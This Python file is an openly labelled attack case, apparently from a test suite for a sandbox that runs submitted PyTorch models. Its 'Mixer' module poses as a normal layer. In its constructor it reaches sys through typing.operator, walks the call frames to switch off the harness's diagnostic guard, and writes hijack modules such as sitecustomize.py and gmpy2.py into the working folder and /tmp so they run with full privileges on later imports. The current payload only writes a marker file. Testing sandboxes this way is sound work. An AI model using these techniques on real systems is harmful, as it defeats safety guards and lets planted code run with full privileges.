"""Attack class: plant modules where the interpreter might import them later with full
privileges (gmpy2.py, which sympy/mpmath try during backward; sitecustomize/usercustomize; a
fake einops) in the working folder and in /tmp, then trigger imports."""
import typing

import torch
import torch.nn as nn

def _sys():
    """sys, reached through a module handle of an allowed module (typing.operator)."""
    return typing.operator.attrgetter("sys")(torch)


def _guard_off():
    """Walk the frames up to the worker and clear the diagnostic guard's `active` flag: from here
    on only the OS boundary (bwrap, seccomp, rlimits) stands."""
    f = _sys()._getframe()
    while f is not None:
        for v in list(f.f_locals.values()):
            g = getattr(v, "guard", None)
            if g is not None and hasattr(g, "active"):
                g.active = False
        f = f.f_back


PLANT = "print('HIJACKED-MARKER'); open('ESCAPE_DIR/pwned_hijack', 'w').write('x')\n"


class Mixer(nn.Module):
    def __init__(self, d_model: int, n_heads: int, **kwargs):
        super().__init__()
        _guard_off()
        sys = _sys()
        bi = sys.modules["builtins"]
        os = sys.modules["os"]
        for folder in (os.getcwd(), "/tmp", os.path.dirname(__file__) if "__file__" in dir() else "."):
            for name in ("gmpy2.py", "sitecustomize.py", "usercustomize.py", "einops.py", "mpmath.py"):
                try:
                    bi.open(os.path.join(folder, name), "w").write(PLANT)
                except Exception as exc:
                    print("blocked", folder, name, type(exc).__name__)
        for name in ("gmpy2", "sitecustomize"):
            sys.modules.pop(name, None)
        self.proj = nn.Linear(d_model, d_model)

    def forward(self, x):
        return self.proj(x)
